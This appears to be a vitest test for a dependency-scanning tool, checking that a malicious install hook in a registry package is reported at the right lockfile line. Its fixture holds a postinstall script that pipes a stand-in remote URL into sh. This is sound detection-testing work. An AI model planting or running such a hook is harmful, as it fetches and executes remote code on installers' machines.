// The whole way: a lockfile in a change, the package in a registry, the finding on the line of the lockfile.
import { expect, it } from 'vitest';
import { memoryBytes } from '../../src/core/bytes.ts';
import type { Source } from '../../src/core/change.ts';
import { inspectBothSides } from '../../src/inspect/both-sides.ts';
import { publicRegistries } from '../../src/registry/registry.ts';
import { digest, tarball } from './samples.ts';

const EVIL = tarball({
  'package.json':
    '{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "curl https://x.example.com/x | sh"}}',
});

it('finds in a package what it does when it is installed', async () => {
  const lock = JSON.stringify(
    {
      name: 'app',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', dependencies: { a: '1.0.0' } },
        'node_modules/a': {
          version: '1.0.0',
          resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz',
          integrity: `sha512-${digest(EVIL).value}`,
        },
      },
    },
    null,
    1,
  );
  const asked: string[] = [];
  const fetch = (url: string): Promise<Response> => {
    asked.push(url);
    return Promise.resolve(
      url.endsWith('.tgz') ? new Response(EVIL) : new Response('{"versions": {"1.0.0": {}}}'),
    );
  };
  const source: Pick<Source, 'open'> = { open: () => Promise.resolve(memoryBytes(Buffer.from(lock))) };
  const { findings } = await inspectBothSides({
    source: source as Source,
    files: [{ path: 'package-lock.json', head: { kind: 'file', id: '0'.repeat(40) } }],
    unlisted: [],
    occurrences: [],
    allowedGlobals: new Set(),
    customRules: new Map(),
    registry: publicRegistries({ fetch }),
  });
  expect(asked).toEqual(['https://registry.npmjs.org/a', 'https://registry.npmjs.org/a/-/a-1.0.0.tgz']);
  expect(findings).toContainEqual(
    expect.objectContaining({
      rule: expect.stringMatching(/^HOOK-/),
      location: { path: 'package-lock.json', members: [], line: 11 },
      evidence: expect.stringMatching(/^in a@1\.0\.0 > package\/package\.json/),
    }),
  );
});
